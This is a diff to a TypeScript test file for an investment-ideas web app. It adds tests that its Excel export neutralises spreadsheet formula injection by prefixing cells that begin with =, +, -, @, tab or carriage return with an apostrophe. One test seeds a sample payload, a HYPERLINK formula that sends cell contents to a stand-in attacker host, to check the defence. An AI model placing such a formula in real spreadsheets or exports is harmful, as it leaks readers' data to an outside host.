@@ -1,7 +1,8 @@
 import ExcelJS from 'exceljs';
 import { count, eq } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
-import { savedFilters, users } from '../src/db/schema';
+import { analysts, ideas, savedFilters, users } from '../src/db/schema';
+import { spreadsheetText } from '../src/services/ideas-export';
 import { MAX_SAVED_FILTERS, MESSAGES } from '@investradar/ui/domain';
 import { Agent, describeOnDatabases, uniqueEmail } from './support';
 
@@ -129,6 +130,53 @@ describeOnDatabases('ideas: PRO saved filters and Excel export', (ctx) => {
         expect(response.statusCode).toBe(403);
         expect(response.json()).toMatchObject({ message: MESSAGES.proOnly, permission: 'ii.export_excel' });
       }
+    });
+
+    it('text cells a spreadsheet would read as a formula start with an apostrophe (=, +, -, @, tab, CR)', async () => {
+      const pro = await ctx.signedIn('pro@investradar.ru');
+      const [first] = (await pro.get('/api/ideas?status=open&per_page=1')).json().results.ideas as Array<{
+        id: number;
+      }>;
+      const [row] = await ctx.db.select({ analystId: ideas.analystId }).from(ideas).where(eq(ideas.id, first!.id));
+      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Подробнее")';
+      await ctx.db.update(ideas).set({ name: formula }).where(eq(ideas.id, first!.id));
+      if (row?.analystId)
+        await ctx.db.update(analysts).set({ name: '@SUM(1+1)' }).where(eq(analysts.id, row.analystId));
+      const response = await pro.get('/api/ideas/export?status=open');
+      expect(response.statusCode).toBe(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+      const sheet = book.getWorksheet('Идеи')!;
+      const header = (sheet.getRow(1).values as unknown[]).slice(1);
+      const names: unknown[] = [];
+      const analystNames: unknown[] = [];
+      sheet.eachRow((r, n) => {
+        if (n === 1) return;
+        names.push(r.getCell(header.indexOf('Идея') + 1).value);
+        analystNames.push(r.getCell(header.indexOf('Аналитик') + 1).value);
+      });
+      expect(names).toContain(`'${formula}`);
+      expect(names).not.toContain(formula);
+      if (row?.analystId) expect(analystNames).toContain("'@SUM(1+1)");
+      // Every text cell of the sheet: none starts with a formula character.
+      for (const value of [...names, ...analystNames])
+        if (typeof value === 'string') expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    });
+
+    it('spreadsheetText: each character OWASP names, and nothing else', () => {
+      const cases: Array<[string, string]> = [
+        ['=1+1', "'=1+1"],
+        ['+7 495 000-00-00', "'+7 495 000-00-00"],
+        ['-2+3', "'-2+3"],
+        ['@SUM(A1)', "'@SUM(A1)"],
+        ['\t=1', "'\t=1"],
+        ['\r=1', "'\r=1"],
+        ['Сбербанк', 'Сбербанк'],
+        ['SBER', 'SBER'],
+        ['', ''],
+        ['1=1', '1=1'],
+      ];
+      for (const [input, output] of cases) expect(spreadsheetText(input), JSON.stringify(input)).toBe(output);
     });
 
     it('422 for invalid filters', async () => {
